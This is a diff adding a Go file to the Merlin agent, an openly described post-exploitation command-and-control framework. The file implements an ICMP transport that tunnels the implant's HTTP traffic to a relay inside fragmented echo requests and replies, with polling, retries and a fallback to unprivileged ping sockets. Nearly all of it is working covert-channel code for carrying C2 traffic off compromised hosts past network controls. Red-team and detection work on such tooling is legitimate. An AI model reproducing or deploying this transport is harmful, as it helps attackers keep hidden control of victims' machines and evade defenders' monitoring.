@@ -0,0 +1,255 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package icmp
+
+import (
+	// Standard
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"math/rand"
+	"net"
+	"net/http"
+	"sync"
+	"time"
+
+	// X Packages
+	"golang.org/x/net/icmp"
+	"golang.org/x/net/ipv4"
+	"golang.org/x/net/ipv6"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/clients"
+)
+
+/*
+The ICMP transport tunnels the agent's HTTP requests through ICMP echo requests to a relay that forwards them to the
+Merlin server's HTTP listener and returns the HTTP response in echo replies. Every echo payload starts with a header:
+
+	Message ID (4 bytes) | Type (1 byte) | Index (2 bytes) | Total (2 bytes) | Data
+
+The agent sends every fragment of the serialized HTTP request as a request (0) type, and the relay acknowledges each
+one with an echo reply containing the same header. The agent then sends poll (1) types for each fragment of the
+HTTP response and the relay replies with the fragment's data and the total number of response fragments, or a
+total of 0 if the response is not ready yet.
+*/
+
+const (
+	// fragmentSize is the largest amount of data sent in a single echo payload to stay under a 1500 byte MTU
+	fragmentSize = 1024
+	// headerSize is the size of the echo payload header
+	headerSize = 9
+	// request is the echo payload type for a fragment of the HTTP request
+	request = 0
+	// poll is the echo payload type used to retrieve a fragment of the HTTP response
+	poll = 1
+	// retries is the number of times an unanswered echo request is resent
+	retries = 3
+	// timeout is how long to wait for an echo reply
+	timeout = 5 * time.Second
+	// maxPolls is the number of polls sent while the relay is waiting on a response from the server
+	maxPolls = 30
+)
+
+// Transport is an http.RoundTripper that sends HTTP requests to a relay over ICMP echo requests
+type Transport struct {
+	sync.Mutex
+	id  int // id is the ICMP echo identifier; the kernel replaces it when unprivileged ping sockets are used
+	seq int // seq is the ICMP echo sequence number
+}
+
+// NewTransport returns an ICMP transport after verifying the agent can open an ICMP socket
+func NewTransport() (*Transport, error) {
+	conn, _, err := listen(false)
+	if err != nil {
+		return nil, err
+	}
+	conn.Close()
+	// #nosec G404 -- Random number does not impact security
+	return &Transport{id: rand.Intn(0xffff)}, nil
+}
+
+// listen opens a privileged raw ICMP socket and falls back to an unprivileged ping socket, where supported, when the
+// agent does not have raw socket privileges. The returned boolean is true for unprivileged sockets.
+func listen(ip6 bool) (*icmp.PacketConn, bool, error) {
+	network, unprivileged := "ip4:icmp", "udp4"
+	address := "0.0.0.0"
+	if ip6 {
+		network, unprivileged = "ip6:ipv6-icmp", "udp6"
+		address = "::"
+	}
+	conn, err := icmp.ListenPacket(network, address)
+	if err == nil {
+		return conn, false, nil
+	}
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("there was an error opening a raw ICMP socket, trying an unprivileged ping socket: %s", err))
+	}
+	conn, errU := icmp.ListenPacket(unprivileged, address)
+	if errU != nil {
+		return nil, false, fmt.Errorf("the icmp protocol requires raw socket privileges (root, CAP_NET_RAW, or Administrator) or unprivileged ping sockets: %s", err)
+	}
+	return conn, true, nil
+}
+
+// RoundTrip serializes the HTTP request, sends it to the relay in echo request fragments, and reassembles the HTTP
+// response from the relay's echo replies
+func (t *Transport) RoundTrip(req *http.Request) (*http.Response, error) {
+	// Only one message is in flight at a time
+	t.Lock()
+	defer t.Unlock()
+
+	ips, err := clients.Dialer().Resolver.LookupIPAddr(context.Background(), req.URL.Hostname())
+	if err != nil || len(ips) == 0 {
+		return nil, fmt.Errorf("there was an error resolving %s: %v", req.URL.Hostname(), err)
+	}
+	ip := ips[0].IP
+	ip6 := ip.To4() == nil
+
+	conn, unprivileged, err := listen(ip6)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+
+	var dst net.Addr = &net.IPAddr{IP: ip}
+	if unprivileged {
+		dst = &net.UDPAddr{IP: ip}
+	}
+
+	var buf bytes.Buffer
+	err = req.Write(&buf)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error serializing the HTTP request: %s", err)
+	}
+	data := buf.Bytes()
+
+	// #nosec G404 -- Random number does not impact security
+	msgID := rand.Uint32()
+	total := (len(data) + fragmentSize - 1) / fragmentSize
+	if total > 0xffff {
+		return nil, fmt.Errorf("the %d byte HTTP request is too large for the icmp protocol", len(data))
+	}
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Sending %d byte HTTP request to %s in %d ICMP echo requests", len(data), ip, total))
+	}
+
+	for i := 0; i < total; i++ {
+		end := (i + 1) * fragmentSize
+		if end > len(data) {
+			end = len(data)
+		}
+		_, _, err = t.exchange(conn, dst, ip6, msgID, request, uint16(i), uint16(total), data[i*fragmentSize:end])
+		if err != nil {
+			return nil, err
+		}
+	}
+
+	// Poll the relay for the HTTP response
+	var response []byte
+	var index, count uint16
+	for polls := 0; polls < maxPolls; {
+		fragment, n, errX := t.exchange(conn, dst, ip6, msgID, poll, index, 0, nil)
+		if errX != nil {
+			return nil, errX
+		}
+		// The relay has not received the response from the server yet
+		if n == 0 {
+			polls++
+			time.Sleep(time.Second)
+			continue
+		}
+		count = n
+		response = append(response, fragment...)
+		index++
+		if index >= count {
+			break
+		}
+	}
+	if count == 0 || index < count {
+		return nil, fmt.Errorf("the icmp relay did not return an HTTP response")
+	}
+
+	return http.ReadResponse(bufio.NewReader(bytes.NewReader(response)), req)
+}
+
+// exchange sends an echo request with the provided header and data and returns the data and total fragment count
+// from the matching echo reply, resending the echo request if it is not answered
+func (t *Transport) exchange(conn *icmp.PacketConn, dst net.Addr, ip6 bool, msgID uint32, kind byte, index, total uint16, data []byte) ([]byte, uint16, error) {
+	payload := make([]byte, headerSize, headerSize+len(data))
+	binary.BigEndian.PutUint32(payload[0:4], msgID)
+	payload[4] = kind
+	binary.BigEndian.PutUint16(payload[5:7], index)
+	binary.BigEndian.PutUint16(payload[7:9], total)
+	payload = append(payload, data...)
+
+	var echoType, replyType icmp.Type = ipv4.ICMPTypeEcho, ipv4.ICMPTypeEchoReply
+	proto := 1
+	if ip6 {
+		echoType, replyType = ipv6.ICMPTypeEchoRequest, ipv6.ICMPTypeEchoReply
+		proto = 58
+	}
+
+	var lastErr error
+	for attempt := 0; attempt <= retries; attempt++ {
+		t.seq = (t.seq + 1) & 0xffff
+		msg := icmp.Message{
+			Type: echoType,
+			Body: &icmp.Echo{ID: t.id, Seq: t.seq, Data: payload},
+		}
+		b, err := msg.Marshal(nil)
+		if err != nil {
+			return nil, 0, fmt.Errorf("there was an error building the ICMP echo request: %s", err)
+		}
+		_, err = conn.WriteTo(b, dst)
+		if err != nil {
+			return nil, 0, fmt.Errorf("there was an error sending the ICMP echo request: %s", err)
+		}
+
+		err = conn.SetReadDeadline(time.Now().Add(timeout))
+		if err != nil {
+			return nil, 0, err
+		}
+		reply := make([]byte, 1500)
+		for {
+			n, _, errR := conn.ReadFrom(reply)
+			if errR != nil {
+				lastErr = errR
+				break
+			}
+			rm, errP := icmp.ParseMessage(proto, reply[:n])
+			if errP != nil || rm.Type != replyType {
+				continue
+			}
+			echo, ok := rm.Body.(*icmp.Echo)
+			// Raw sockets receive every ICMP message on the host, only keep replies for this message
+			if !ok || len(echo.Data) < headerSize || binary.BigEndian.Uint32(echo.Data[0:4]) != msgID ||
+				echo.Data[4] != kind || binary.BigEndian.Uint16(echo.Data[5:7]) != index {
+				continue
+			}
+			return echo.Data[headerSize:], binary.BigEndian.Uint16(echo.Data[7:9]), nil
+		}
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("No ICMP echo reply for message %d fragment %d, attempt %d: %s", msgID, index, attempt+1, lastErr))
+		}
+	}
+	return nil, 0, fmt.Errorf("the icmp relay did not reply to message %d fragment %d: %s", msgID, index, lastErr)
+}